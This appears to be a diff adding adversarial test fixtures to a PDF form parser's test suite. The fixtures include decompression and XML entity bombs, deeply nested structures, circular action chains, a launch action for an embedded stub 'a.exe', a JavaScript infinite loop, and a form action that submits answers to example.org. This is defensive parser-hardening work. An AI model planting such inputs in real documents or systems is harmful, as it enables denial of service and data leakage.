@@ -192,12 +192,139 @@ def odd_names() -> bytes:
     return data.replace(b"/FT /Tx", b"/F\xed /Tx", 1).replace(b"/V /mentor", b"/V /m#e9#2f#23", 1)
 
 
+def claim_bomb() -> bytes:
+    """A claim of 60 MB of spaces in 60 kB."""
+    return changed(make_pdf(VALUES, claim=b" " * 60_000_000), lambda pdf: None, compress_streams=True)
+
+
+def claim_of_brackets() -> bytes:
+    """A claim of 30,000 brackets inside one another."""
+    return make_pdf(VALUES, claim=b"[" * 30_000 + b"]" * 30_000)
+
+
+def claim_of_odd_numbers() -> bytes:
+    """A claim with NaN and a number of 10,000 digits."""
+    return make_pdf(VALUES, claim=b'{"schemebook": NaN, "version": 1' + b"0" * 10_000 + b"}")
+
+
+def attachment_bomb() -> bytes:
+    """Beside the claim an attachment of 600 MB in 600 kB, which nobody opens."""
+
+    def change(pdf: pikepdf.Pdf) -> None:
+        packer = zlib.compressobj(9)
+        body = b"".join(packer.compress(b"\0" * 1_000_000) for _ in range(600)) + packer.flush()
+        held = pikepdf.Stream(pdf, body, Dictionary(Type=Name.EmbeddedFile, Filter=Name.FlateDecode))
+        spec = Dictionary(Type=Name.Filespec, UF=String("cv.bin"), EF=Dictionary(F=pdf.make_indirect(held)))
+        pdf.Root.AF.append(pdf.make_indirect(spec))
+
+    return _change(change)
+
+
+def attached_program() -> bytes:
+    """Beside the claim a program, and a launch action that would start it."""
+
+    def change(pdf: pikepdf.Pdf) -> None:
+        held = pdf.make_indirect(pdf.make_stream(b"MZ" + b"\0" * 100))
+        spec = pdf.make_indirect(Dictionary(Type=Name.Filespec, UF=String("a.exe"), EF=Dictionary(F=held)))
+        pdf.Root.AF.append(spec)
+        pdf.Root.OpenAction = Dictionary(S=Name.Launch, F=spec)
+
+    return _change(change)
+
+
+def script_behind_a_field() -> bytes:
+    """A script that runs when a field is left, and one behind a harmless action."""
+
+    def change(pdf: pikepdf.Pdf) -> None:
+        script = Dictionary(S=Name.JavaScript, JS=String("while (true) {}"))
+        field(pdf, "name").AA = Dictionary(Bl=script)
+        field(pdf, "email").A = Dictionary(S=Name.URI, URI=String("https://example.org"), Next=script)
+
+    return _change(change)
+
+
+def form_that_sends_itself() -> bytes:
+    """A button's action that sends the answers away."""
+
+    def change(pdf: pikepdf.Pdf) -> None:
+        field(pdf, "consent").A = Dictionary(S=Name.SubmitForm, F=String("https://example.org/collect"))
+
+    return _change(change)
+
+
+def circle_of_actions() -> bytes:
+    """Two actions, each the next of the other."""
+
+    def change(pdf: pikepdf.Pdf) -> None:
+        first = pdf.make_indirect(Dictionary(S=Name.GoTo))
+        second = pdf.make_indirect(Dictionary(S=Name.URI, Next=Array([first] * 60)))
+        first.Next = Array([second] * 60)
+        pdf.Root.OpenAction = first
+
+    return _change(change)
+
+
+def many_notes() -> bytes:
+    """4,000 notes over one page."""
+
+    def change(pdf: pikepdf.Pdf) -> None:
+        note = Dictionary(Subtype=Name.FreeText, Contents=String("x" * 1_000), Rect=Array([0, 0, 400, 600]))
+        pdf.pages[0].obj.Annots = Array([*pdf.pages[0].obj.Annots, *(pdf.make_indirect(note) for _ in range(4_000))])
+
+    return _change(change)
+
+
+def drawing_bomb() -> bytes:
+    """A page without fields whose drawing inflates to 400 MB."""
+    packer = zlib.compressobj(9)
+    body = b"".join(packer.compress(b"0 0 9 9 re f\n" * 80_000) for _ in range(400)) + packer.flush()
+    return _page_of(pikepdf.Stream, body)
+
+
+def picture_bomb() -> bytes:
+    """A page without fields with a picture of 60,000 by 60,000 dots."""
+    packer = zlib.compressobj(9)
+    body = b"".join(packer.compress(b"\0" * 1_000_000) for _ in range(450)) + packer.flush()
+    return _page_of(pikepdf.Stream, b"60 0 0 60 0 0 cm /I Do", picture=body)
+
+
+def _page_of(stream: type[pikepdf.Stream], drawing: bytes, picture: bytes = b"") -> bytes:
+    with pikepdf.new() as pdf:
+        pdf.add_blank_page(page_size=(400, 600))
+        page = pdf.pages[0].obj
+        page.Contents = stream(pdf, drawing)
+        if picture:
+            image = stream(pdf, picture, Dictionary(Type=Name.XObject, Subtype=Name.Image, Width=60_000, Height=60_000))
+            image.ColorSpace, image.BitsPerComponent, image.Filter = Name.DeviceGray, 1, Name.FlateDecode
+            page.Resources = Dictionary(XObject=Dictionary(I=pdf.make_indirect(image)))
+        else:
+            page.Contents.Filter = Name.FlateDecode
+        out = io.BytesIO()
+        pdf.save(out, static_id=True, stream_decode_level=pikepdf.StreamDecodeLevel.none)
+        return out.getvalue()
+
+
+def entity_bomb() -> bytes:
+    """XFDF with entities that grow to a thousand million letters."""
+    entities = b"".join(b'<!ENTITY e%d "%s">' % (n, b"&e%d;" % (n - 1) * 10 if n else b"x" * 10) for n in range(9))
+    return b'<?xml version="1.0"?><!--a--><xfdf xmlns="x"><fields/></xfdf><!DOCTYPE x [' + entities + b"]>"
+
+
+def deep_form_data() -> bytes:
+    """FDF of 5,000 fields inside one another."""
+    deep = b"<< /T (a) /Kids [" * 5_000 + b"]>>" * 5_000
+    body = b"1 0 obj\n<< /FDF << /Fields [" + deep + b"] >> >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
+    return b"%FDF-1.2\n" + body
+
+
 PDFS: dict[str, Callable[[], bytes]] = {
     made.__name__.replace("_", "-"): made
     for made in (
         doubled_kids, circular_kids, deep_kids, circular_pages, million_direct_fields, many_fields, many_pages,
         large_value_in_a_stream, large_value_in_a_packed_string, object_stream_bomb, cross_reference_bomb, deep_arrays,
-        self_reference, rich_text_of_brackets, odd_names,
+        self_reference, rich_text_of_brackets, odd_names, claim_bomb, claim_of_brackets, claim_of_odd_numbers,
+        attachment_bomb, attached_program, script_behind_a_field, form_that_sends_itself, circle_of_actions,
+        many_notes, drawing_bomb, picture_bomb, entity_bomb, deep_form_data,
     )
 }  # fmt: skip
 
